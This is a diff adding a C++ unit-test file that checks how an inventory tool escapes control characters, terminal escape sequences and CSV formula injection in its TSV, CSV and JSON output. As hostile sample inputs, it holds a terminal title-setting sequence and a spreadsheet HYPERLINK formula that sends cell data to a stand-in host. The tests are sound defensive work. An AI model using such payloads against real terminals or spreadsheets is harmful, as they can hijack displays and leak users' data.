@@ -1,0 +1,124 @@
+// The text forms of the inventory's records, field by field: what a hostile text becomes in
+// each of them.
+#include "output/OutputFormat.h"
+
+#include <gtest/gtest.h>
+
+namespace {
+
+// Every C0 control, DEL and every C1 control, with a letter between them.
+QString everyControl()
+{
+    QString text;
+    for (char16_t c = 0; c < 0xa0; ++c) {
+        if (c < 0x20 || c >= 0x7f) {
+            text += QChar(c);
+            text += u'a';
+        }
+    }
+    return text;
+}
+
+bool holdsControl(const QString& text)
+{
+    for (QChar c : text) {
+        if (c.unicode() < 0x20 || (c.unicode() >= 0x7f && c.unicode() <= 0x9f))
+            return true;
+    }
+    return false;
+}
+
+}
+
+TEST(OutputText, NoControlCharacterSurvivesAnyForm)
+{
+    const QString hostile = everyControl();
+    for (const QString& written : {OutputText::tsvField(hostile), OutputText::csvField(hostile),
+                                   OutputText::jsonString(hostile), OutputText::shown(hostile)})
+        EXPECT_FALSE(holdsControl(written)) << written.toStdString();
+
+    // A terminal's title sequence (ESC ] 0 ; ... BEL) and the C1 introducer CSI.
+    const QString title = QStringLiteral("\x1b]0;pwned\x07x\u009b2J");
+    EXPECT_EQ(OutputText::tsvField(title), "\\x1B]0;pwned\\x07x\\x9B2J");
+    EXPECT_EQ(OutputText::csvField(title), "\"\\x1B]0;pwned\\x07x\\x9B2J\"");
+    EXPECT_EQ(OutputText::jsonString(title), "\"\\u001b]0;pwned\\u0007x\\u009b2J\"");
+    EXPECT_EQ(OutputText::shown(title), "\\x1B]0;pwned\\x07x\\x9B2J");
+
+    // TSV keeps its short escapes, and a backslash written as text stays apart from an escape.
+    EXPECT_EQ(OutputText::tsvField(QStringLiteral("a\tb\rc\nd") + QChar(0) + QStringLiteral("\\x1B\x7f")),
+              "a\\tb\\rc\\nd\\0\\\\x1B\\x7F");
+    // CSV keeps each record on one line: CR and LF are written as escapes inside quotes.
+    EXPECT_EQ(OutputText::csvField("a\r\nb"), "\"a\\x0D\\x0Ab\"");
+    // Text beyond the controls is left alone.
+    EXPECT_EQ(OutputText::tsvField(QString::fromUtf8("Señor \u00a0€")), QString::fromUtf8("Señor \u00a0€"));
+    EXPECT_EQ(OutputText::csvField(QString::fromUtf8("Señor")), QString::fromUtf8("Señor"));
+}
+
+TEST(OutputText, TablesEscapeControlsInEveryFormat)
+{
+    OutputTable table;
+    table.columns = {"name", "projects"};
+    table.rows.append({QStringLiteral("\x1b[2J"), QStringList{QStringLiteral("c:\\a\x07.vbp"), QStringLiteral("b\u0085")}});
+    for (OutputFormat format : {OutputFormat::Tsv, OutputFormat::Csv, OutputFormat::Json}) {
+        const QString text = QString::fromUtf8(RenderTable(table, format));
+        QString withoutLineEnds = text;
+        withoutLineEnds.remove(u'\n').remove(u'\r').remove(u'\t');
+        EXPECT_FALSE(holdsControl(withoutLineEnds)) << text.toStdString();
+    }
+}
+
+TEST(OutputText, CsvKeepsFormulasAsTextUnlessAskedForRawFields)
+{
+    // Each start a spreadsheet reads as a formula gets a leading "'"; a plain number does not.
+    EXPECT_EQ(OutputText::csvField("=1+41"), "'=1+41");
+    EXPECT_EQ(OutputText::csvField("=HYPERLINK(\"http://x/?\"&A1,\"Click\")"),
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"");
+    EXPECT_EQ(OutputText::csvField("+1+1"), "'+1+1");
+    EXPECT_EQ(OutputText::csvField("-2+3"), "'-2+3");
+    EXPECT_EQ(OutputText::csvField("@SUM(A1)"), "'@SUM(A1)");
+    EXPECT_EQ(OutputText::csvField("\t=1"), "\"'\\x09=1\"");
+    EXPECT_EQ(OutputText::csvField("\r=1"), "\"'\\x0D=1\"");
+    for (const char* number : {"-3", "+4", "-4.5", "12", "0"})
+        EXPECT_EQ(OutputText::csvField(number), number);
+    EXPECT_EQ(OutputText::csvField("a=1"), "a=1");
+    EXPECT_EQ(OutputText::csvField(""), "");
+
+    EXPECT_EQ(OutputText::csvField("=1+41", CsvFormulas::Raw), "=1+41");
+    EXPECT_EQ(OutputText::csvField("\t=1", CsvFormulas::Raw), "\"\\x09=1\"") << "controls are escaped still";
+
+    OutputTable table;
+    table.columns = {"name", "version"};
+    table.rows.append({QStringLiteral("=1+41"), qint64(-1)});
+    EXPECT_EQ(RenderTable(table, OutputFormat::Csv), "name,version\r\n'=1+41,-1\r\n");
+    EXPECT_EQ(RenderTable(table, OutputFormat::Csv, CsvFormulas::Raw), "name,version\r\n=1+41,-1\r\n");
+    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), "name\tversion\n=1+41\t-1\n") << "TSV is for programs";
+}
+
+TEST(OutputText, APipeInsideAListItemIsEscaped)
+{
+    OutputTable table;
+    table.columns = {"projects"};
+    table.rows.append({QStringList{QStringLiteral("c:\\a|b.vbp"), QStringLiteral("c:\\c\\|.vbp")}});
+    table.rows.append({QStringList{QStringLiteral("c:\\a"), QStringLiteral("b.vbp")}});
+    // TSV doubles every backslash, so "\|" is a pipe of an item and a bare "|" joins items.
+    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), "projects\nc:\\\\a\\|b.vbp|c:\\\\c\\\\\\|.vbp\nc:\\\\a|b.vbp\n");
+    // CSV leaves backslashes alone: "\|" is a pipe of an item.
+    EXPECT_EQ(RenderTable(table, OutputFormat::Csv), "projects\r\nc:\\a\\|b.vbp|c:\\c\\\\|.vbp\r\nc:\\a|b.vbp\r\n");
+    EXPECT_EQ(RenderTable(table, OutputFormat::Json),
+              "[\n  {\"projects\": [\"c:\\\\a|b.vbp\", \"c:\\\\c\\\\|.vbp\"]},\n"
+              "  {\"projects\": [\"c:\\\\a\", \"b.vbp\"]}\n]\n");
+}
+
+TEST(OutputText, WriteTableHandsOverOneRecordAtATime)
+{
+    OutputTable table;
+    table.columns = {"a", "b"};
+    for (int r = 0; r < 3; ++r)
+        table.rows.append({QStringLiteral("x"), qint64(r)});
+    for (OutputFormat format : {OutputFormat::Tsv, OutputFormat::Csv, OutputFormat::Json}) {
+        QList<QByteArray> pieces;
+        WriteTable(table, format, [&pieces](const QByteArray& piece) { pieces.append(piece); });
+        EXPECT_EQ(pieces.size(), format == OutputFormat::Json ? 5 : 4) << "the opening or header, the records, the end";
+        EXPECT_EQ(pieces.join(), RenderTable(table, format));
+    }
+}
